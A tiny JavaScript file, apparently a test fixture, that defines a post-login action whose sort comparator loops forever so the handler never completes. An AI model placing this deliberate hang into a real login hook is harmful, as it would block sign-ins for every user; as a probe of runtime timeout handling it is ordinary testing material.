exports.onExecutePostLogin = async () => {
  Array.from({ length: 5000 }, (_, i) => i).sort(() => { for (;;); });
};
